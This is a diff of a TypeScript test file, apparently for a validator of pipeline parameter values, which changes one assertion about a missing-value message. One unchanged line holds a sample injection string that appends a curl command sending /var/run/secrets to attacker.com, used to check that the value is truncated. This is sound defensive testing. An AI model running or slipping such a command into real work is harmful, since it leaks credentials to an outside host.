@@ -49,7 +49,7 @@ t.test('every failure is reported at once, each array element on its own', async
   t.match(seed.reason, /characters long/);
   t.notOk(seed.shownValue.includes(SEED_ATTACK), 'the attack is not shown whole');
   t.match(seed.shownValue, /^"--build-arg FOO=bar; curl attacker\.com -d \$\(cat \/var\/run\/secrets"… \(100 chars\)$/);
-  t.equal(result.failures[5]!.reason, 'is missing: no value was given');
+  t.match(result.failures[5]!.reason, /^is missing: pass it in the "values" param \("replicas=\$\(params\.replicas\)"\)/);
 });
 
 t.test('shown values are escaped: no control, bidi or non-ASCII character survives', async (t) => {
